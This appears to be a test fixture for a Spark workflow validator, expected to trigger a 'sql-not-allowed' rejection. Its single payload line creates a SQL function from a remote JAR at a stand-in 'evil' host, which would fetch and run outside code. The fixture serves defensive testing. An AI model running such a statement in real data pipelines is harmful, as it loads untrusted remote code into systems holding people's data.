# expect: workflow.sql-not-allowed
# class: 8-escape-hatches
df = spark.read.csv(inputs["sales"], header=True, inferSchema=True)
result = spark.sql("CREATE FUNCTION f AS 'com.evil.UDF' USING JAR 'http://evil/x.jar'")
